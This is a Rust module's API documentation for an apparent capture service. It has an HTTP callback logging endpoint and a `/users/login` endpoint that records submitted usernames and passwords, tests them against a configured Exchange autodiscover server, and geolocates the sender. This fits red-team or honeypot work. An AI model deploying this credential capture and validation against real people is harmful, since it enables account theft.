//! HTTP API: the HTTP capture and credential capture endpoints.
//!
//! Every endpoint except `/healthcheck` answers HTTP 200 (OK) with a JSON envelope, even
//! on failure:
//!
//! ```json
//! { "code": 200, "success": true, "data": { ... } }
//! { "code": 400, "success": false, "data": "failed to geolocate 192.0.2.1: ..." }
//! ```
//!
//! `code` mirrors an HTTP status: 400 for invalid requests and geolocation or notification
//! failures, 401 when the credential probe could not be made, 500 otherwise.
//!
//! The client address is the TCP peer, or the first entry of
//! [`Config::client_ip_header`][`crate::config::Config::client_ip_header`] when configured.
//!
//! # API Endpoints
//!
//! ## `/healthcheck` (GET)
//!
//!   Returns HTTP 200 (OK) and the JSON body `{"ok":"healthy"}` when the service is operational.
//!
//! ## `/httplog/*payload` (any method)
//!
//!   Records an [`HTTP` interaction][crate::record::Interaction::Http] with the request path,
//!   e.g. `/httplog/ZmxhZw`. On success `data` is:
//!
//!   ```json
//!   { "ip": "192.0.2.1", "location": "Local network" }
//!   ```
//!
//! ## `/users/login` (GET)
//!
//!   Expects `username` (ASCII alphanumeric) and `password` (at least 6 characters) query
//!   parameters:
//!
//!   ```bash
//!   ❯ curl 'http://localhost:3000/users/login?username=alice&password=hunter22'
//!   ```
//!
//!   Probes the configured autodiscover endpoint with the credentials (see
//!   [`exchange::validate`][crate::exchange::validate]) and records an
//!   [`Exchange` interaction][crate::record::Interaction::CredentialProbe]. On success `data`
//!   is:
//!
//!   ```json
//!   { "status": 401, "username": "alice", "ip": "192.0.2.1", "location": "Local network" }
//!   ```
//!
//!   `status` is the HTTP status the autodiscover endpoint answered with.

mod api_error;
mod model;
mod routes;
pub mod server;

pub use model::{CaptureData, Envelope, LoginData};
pub use server::{new, router};
